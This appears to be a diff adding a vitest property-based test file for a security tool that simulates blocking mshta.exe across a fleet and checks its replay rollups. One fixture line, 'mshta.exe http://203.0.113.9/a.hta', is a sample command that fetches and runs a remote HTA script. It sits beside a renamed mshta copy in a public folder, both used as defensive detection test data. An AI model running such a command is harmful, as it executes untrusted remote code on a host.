@@ -1,0 +1,223 @@
+import fc from 'fast-check'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import type { Scope } from '@/lib/pipeline/actor'
+import type { Signature } from '@/lib/pipeline/baseline/signature'
+import {
+  BLOCK_EFFECTS,
+  type Block,
+  type BlockException,
+  CONTROLS,
+  type DecisionScope,
+} from '@/lib/pipeline/decision/block'
+import { foldReplay } from '@/lib/pipeline/decision/fold-replay'
+import {
+  type JudgedUse,
+  judgeUse,
+  type Plan,
+  planBlock,
+  soleException,
+} from '@/lib/pipeline/decision/what-if'
+import { closePool, pool } from '@/lib/store/pool'
+import { type BinaryHeader, findBinary } from '@/lib/store/screens/binary/view'
+import { loadByDay } from '@/lib/store/screens/what-if/load-by-day'
+import { loadFacets } from '@/lib/store/screens/what-if/load-facets'
+import { loadReplay } from '@/lib/store/screens/what-if/load-replay'
+import { loadLeftAlone, loadStoppedDeviations } from '@/lib/store/screens/what-if/load-stopped'
+import { loadReplayInput } from '@/lib/store/screens/what-if/replay-input'
+import { createTestDatabase, type TestDatabase } from '@/lib/store/test-database'
+import { ingestExamples } from './ingest/example-use'
+import { recompute } from './recompute/recompute'
+
+let database: TestDatabase
+let entry: BinaryHeader
+let stored: (JudgedUse & { day: string; executions: number; userId: string })[]
+const ALL: Scope = { kind: 'all' }
+const IMAGE = 'C:\\Windows\\System32\\mshta.exe'
+const PARENTS = [
+  'C:\\Windows\\explorer.exe',
+  'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
+]
+const LINES = ['mshta.exe C:\\Apps\\form.hta', 'mshta.exe http://203.0.113.9/a.hta', null]
+const USERS = ['CORP\\ada', 'CORP\\ben', 'NT AUTHORITY\\SYSTEM']
+
+beforeAll(async () => {
+  database = await createTestDatabase()
+  process.env['APP_DATABASE_URL'] = database.appUrl
+  await ingestExamples(
+    pool(),
+    Array.from({ length: 72 }, (_, at) => ({
+      host: `ws-${1 + (at % 4)}`,
+      at: `2026-01-${String(5 + (at % 5)).padStart(2, '0')}T${String(6 + (at % 13)).padStart(2, '0')}:${String(at % 60).padStart(2, '0')}:00Z`,
+      image: at % 11 === 0 ? 'C:\\Users\\Public\\copy.exe' : IMAGE,
+      originalFileName: 'MSHTA.EXE',
+      commandLine: LINES[at % 3] ?? null,
+      parentImage: PARENTS[at % 7 === 0 ? 1 : 0] ?? null,
+      user: USERS[at % 5 === 0 ? 2 : at % 2] ?? null,
+    })),
+  )
+  await recompute(pool())
+  await pool().query("INSERT INTO host_group (id, name) VALUES (1, 'Tills'), (2, 'Offices')")
+  await pool().query(
+    "INSERT INTO host_group_member (host_id, group_id, valid_from) SELECT id, CASE WHEN name = 'ws-1' THEN 1 ELSE 2 END, '1970-01-01' FROM host WHERE name <> 'ws-4'",
+  )
+  await recompute(pool())
+  const found = await findBinary('mshta.exe')
+  if (!found) throw new Error('no entry')
+  entry = found
+  stored = await readUse()
+})
+afterAll(async () => {
+  await closePool()
+  await database.drop()
+})
+
+type Row = { host_id: number; group_id: number | null; day: string; executions: number; principal_id: string }
+
+/** Usage row by row, as the predicate takes it. */
+async function readUse() {
+  const { rows } = await pool().query<Row & { content: Signature; name: string | null; sid: string | null }>(
+    `SELECT u.host_id, m.group_id, u.day, u.executions, u.principal_id, s.content, p.name, p.sid FROM usage u JOIN signature s ON s.id = u.signature_id
+     LEFT JOIN principal p ON p.id = u.principal_id LEFT JOIN host_group_member m ON m.host_id = u.host_id AND m.valid_to IS NULL WHERE u.entry_id = $1`,
+    [entry.id],
+  )
+  return rows.map((row) => ({
+    hostId: row.host_id,
+    groupId: row.group_id,
+    day: row.day,
+    executions: row.executions,
+    userId: row.principal_id,
+    signature: row.content,
+    user: row.principal_id === '0' ? null : { name: row.name, sid: row.sid },
+  }))
+}
+
+const HOSTS = [1, 2, 3, 4]
+const more = { reason: 'needed', until: null }
+const anyException: fc.Arbitrary<BlockException> = fc.oneof(
+  fc.constantFrom(...USERS).map((value) => ({ kind: 'user' as const, value: value.toUpperCase(), ...more })),
+  fc.constantFrom(...HOSTS).map((id) => ({ kind: 'host' as const, id, ...more })),
+  fc.constantFrom(1, 2).map((id) => ({ kind: 'group' as const, id, ...more })),
+  fc
+    .nat(3)
+    .map((at) => ({ kind: 'parent' as const, value: stored[at]?.signature.features.parent ?? '-', ...more })),
+  fc
+    .nat(20)
+    .map((at) => ({ kind: 'pattern' as const, value: stored[at]?.signature.pattern ?? '-', ...more })),
+)
+const anyScope: fc.Arbitrary<DecisionScope> = fc.oneof(
+  fc.constant({ kind: 'fleet' as const }),
+  fc.uniqueArray(fc.constantFrom(1, 2), { minLength: 1 }).map((ids) => ({ kind: 'groups' as const, ids })),
+  fc.uniqueArray(fc.constantFrom(...HOSTS), { minLength: 1 }).map((ids) => ({ kind: 'hosts' as const, ids })),
+)
+const anyPlan = fc
+  .record({
+    effect: fc.constantFrom(...BLOCK_EFFECTS),
+    control: fc.constantFrom(...CONTROLS),
+    scope: anyScope,
+    exceptions: fc.array(anyException, { maxLength: 4 }),
+  })
+  .map(({ control, ...block }) => ({ control, block: { slug: 'mshta.exe', ...block } satisfies Block }))
+
+const sum = (uses: readonly { executions: number }[]) =>
+  uses.reduce((total, { executions }) => total + executions, 0)
+
+describe('what SQL replays from the rollups', () => {
+  test('is what the predicate says row by row: executions, hosts, people, exceptions and days', async () => {
+    await fc.assert(
+      fc.asyncProperty(anyPlan, async ({ block, control }) => {
+        const plan = planBlock(block, control, entry)
+        const input = await loadReplayInput(ALL, entry.id, [plan])
+        const found = foldReplay(await loadReplay(input), 0, plan.expressible)
+        const inside = stored.filter((use) => judgeUse(plan, use) !== 'outside')
+        const cut = inside.filter((use) => ['blocked', 'collateral'].includes(judgeUse(plan, use)))
+        expect(found.interrupted.executions).toBe(sum(cut))
+        expect(found.interrupted.hosts).toBe(new Set(cut.map(({ hostId }) => hostId)).size)
+        expect(found.interrupted.people).toBe(new Set(cut.map(({ userId }) => userId)).size)
+        for (const outcome of ['collateral', 'spared', 'unaffected', 'unknown'] as const)
+          expect(found[outcome]).toBe(sum(inside.filter((use) => judgeUse(plan, use) === outcome)))
+        for (const { bit, executions } of found.marginal)
+          expect(executions).toBe(sum(inside.filter((use) => soleException(plan, use) === bit)))
+        expect(await loadByDay(ALL, block.scope, input)).toEqual(byDay(plan))
+        const facets = await loadFacets(input)
+        expect(sum(facets.host.values)).toBe(sum(cut))
+        expect(facets.parent.total).toBe(new Set(cut.map(({ signature }) => signature.features.parent)).size)
+      }),
+      { numRuns: 60 },
+    )
+  })
+
+  test('shows an actor of some groups those groups alone', async () => {
+    const plan = planBlock(
+      { slug: 'mshta.exe', effect: 'execution', scope: { kind: 'fleet' }, exceptions: [] },
+      'edr',
+      entry,
+    )
+    const scope: Scope = { kind: 'groups', groupIds: [1] }
+    const input = await loadReplayInput(scope, entry.id, [plan])
+    const own = sum(stored.filter(({ groupId }) => groupId === 1))
+    expect(foldReplay(await loadReplay(input), 0, 0).interrupted.executions).toBe(own)
+    const days = await loadByDay(scope, { kind: 'fleet' }, input)
+    expect(days.reduce((total, { interrupted }) => total + interrupted, 0)).toBe(own)
+  })
+
+  test('names the deviations that it stops and those it misses', async () => {
+    const stoppedBy = async (control: 'app-control' | 'santa') =>
+      await loadStoppedDeviations(
+        await loadReplayInput(ALL, entry.id, [
+          planBlock(
+            { slug: 'mshta.exe', effect: 'execution', scope: { kind: 'fleet' }, exceptions: [] },
+            control,
+            entry,
+          ),
+        ]),
+      )
+    const [byName] = await stoppedBy('app-control')
+    expect(byName?.stopped).toBeGreaterThan(0)
+    expect(await stoppedBy('santa')).toEqual([
+      { state: 'open', stopped: 0, missed: (byName?.stopped ?? 0) + (byName?.missed ?? 0) },
+    ])
+  })
+
+  test('says why a control leaves use alone', async () => {
+    const plan = planBlock(
+      { slug: 'mshta.exe', effect: 'execution', scope: { kind: 'fleet' }, exceptions: [] },
+      'applocker',
+      entry,
+    )
+    const input = await loadReplayInput(ALL, entry.id, [plan])
+    const services = sum(stored.filter(({ user }) => user?.name === 'NT AUTHORITY\\SYSTEM'))
+    expect(await loadLeftAlone(input)).toEqual([
+      expect.objectContaining({ effect: 'service-account', executions: services }),
+    ])
+  })
+})
+
+describe('the rollups', () => {
+  test('follow what is computed, groups that hosts move to, and an emptied history', async () => {
+    const total = async (table: string) =>
+      Number((await pool().query(`SELECT coalesce(sum(executions), 0) AS n FROM ${table}`)).rows[0].n)
+    expect(await total('use_span')).toBe(await total('usage'))
+    expect(await total('use_day')).toBe(await total('usage'))
+    await pool().query('DELETE FROM usage WHERE host_id = 1')
+    await recompute(pool())
+    expect(await total('use_span')).toBe(await total('usage'))
+    expect(await total('use_day')).toBe(await total('usage'))
+    await pool().query('UPDATE host_group_member SET group_id = 1 WHERE host_id = 2')
+    await recompute(pool())
+    const { rows } = await pool().query(
+      'SELECT (SELECT sum(executions) FROM use_day WHERE group_id = 1) = (SELECT sum(executions) FROM usage WHERE host_id = 2) AS followed',
+    )
+    expect(rows).toEqual([{ followed: true }])
+    await pool().query('TRUNCATE usage')
+    expect([await total('use_span'), await total('use_day')]).toEqual([0, 0])
+  })
+})
+
+function byDay(plan: Plan): { day: string; interrupted: number; executions: number }[] {
+  const inside = stored.filter((use) => judgeUse(plan, use) !== 'outside')
+  return [...new Set(inside.map(({ day }) => day))].sort().map((day) => {
+    const ofDay = inside.filter((use) => use.day === day)
+    const cut = ofDay.filter((use) => ['blocked', 'collateral'].includes(judgeUse(plan, use)))
+    return { day, interrupted: sum(cut), executions: sum(ofDay) }
+  })
+}
